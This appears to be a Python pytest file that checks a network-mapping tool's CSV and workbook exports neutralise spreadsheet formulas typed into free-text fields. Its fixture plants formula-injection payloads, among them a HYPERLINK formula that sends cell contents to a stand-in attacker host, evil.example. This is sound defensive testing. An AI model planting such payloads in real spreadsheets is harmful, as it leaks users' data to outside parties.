"""A formula typed into any free-text column never leaves as a live formula, in any spreadsheet export.

Every column a user can fill with free text (names, roles, sectors, notes, sources,
capability tags, custom fields, headers of custom fields) holds a formula here; the
CSV pair, our workbook, the Kumu workbook and the analysis workbook are written,
with and without "hide people's names", and no cell may start as a formula, and
no workbook cell may be stored as one. Then the CSV reads back to the same text.
"""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from mapping.analysis.critical import critical_brokers
from mapping.analysis.paths import strongest_paths
from mapping.analysis.ranking import RankingQuery, rank_actors
from mapping.export import FORMULA_PREFIXES
from mapping.formats import analysis_workbook_bytes, export_files, import_files
from mapping.read import InputFile
from tests.formats_maps import map_from_csv

LEAK = '=HYPERLINK("http://evil.example/?n="&B2,"x")'
ACTORS = (
    "id,name,short_name,kind,subtype,sector,country,region,role,notes,source,capabilities,=cmd header\n"
    f'us,"{LEAK.replace(chr(34), chr(34) * 2)}",@short,civil_society,"+sub(1)",=sector,"-country-",@region,=role,'
    f'"=notes",=source,"=hyperlink(""http://x"");convening","=1+1"\n'
    'p,Peter Otieno,,person,,,,,"=Aide to Amina",,,,,\n'
    "t,Target,,government,,,,,,,,,\n"
)
RELATIONSHIPS = (
    "source,target,kind,strength,notes,source_ref,=tie header\n"
    'us,t,dialogue,0.5,"=SUM(1)","@ref","+extra"\n'
    "p,t,influences,0.4,,,\n"
)


def _live(text: str) -> bool:
    """A cell a spreadsheet would run: a formula prefix, unless a bare sign or a plain number."""
    if not text or text[0] not in FORMULA_PREFIXES:
        return False
    try:
        float(text)
        return False
    except ValueError:
        return text not in ("-", "+")  # a tie's sign


@pytest.fixture(scope="module")
def planted():
    return map_from_csv(ACTORS, RELATIONSHIPS)


@pytest.mark.parametrize("redact", [False, True])
def test_the_csv_pair_has_no_live_formula_and_reads_back_as_written(planted, redact: bool) -> None:
    exported = export_files(planted, "csv", redact=redact)
    for name, data in exported.files.items():
        rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
        live = [(name, r, c, cell) for r, row in enumerate(rows) for c, cell in enumerate(row) if _live(cell)]
        assert live == []
    if not redact:
        back = import_files([InputFile(n, d) for n, d in exported.files.items()])
        assert back.map is not None, back.errors
        assert back.map.actor("us").name == LEAK
        assert back.map.actor("us").capabilities == planted.actor("us").capabilities


@pytest.mark.parametrize("fmt", ["xlsx", "kumu"])
@pytest.mark.parametrize("redact", [False, True])
def test_the_workbooks_store_no_formula_and_no_formula_text(planted, fmt: str, redact: bool) -> None:
    assert _workbook_live_cells(export_files(planted, fmt, redact=redact).file()) == []


def test_the_analysis_workbook_stores_no_formula_text(planted) -> None:
    ranking = rank_actors(planted, RankingQuery(us=("us",), targets=("t",)))
    paths = strongest_paths(planted, "us", "t")
    data = analysis_workbook_bytes(planted, ranking, paths, critical_brokers(planted, "us", "t"))
    assert _workbook_live_cells(data) == []


def _workbook_live_cells(data: bytes) -> list[tuple[str, str, object]]:
    """Cells stored as formulas, or as text a spreadsheet would read as one, in every sheet of the workbook.

    The "Method" sheet of the analysis workbook writes its formulas as text on purpose
    (e.g. "strength = ..."), never starting with a formula prefix.
    """
    workbook = load_workbook(io.BytesIO(data))
    found = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" or (isinstance(cell.value, str) and _live(cell.value)):
                    found.append((sheet.title, cell.coordinate, cell.value))
    with zipfile.ZipFile(io.BytesIO(data)) as archive:  # and no <f> element anywhere in the sheets' XML
        assert not any(b"<f>" in archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/"))
    return found
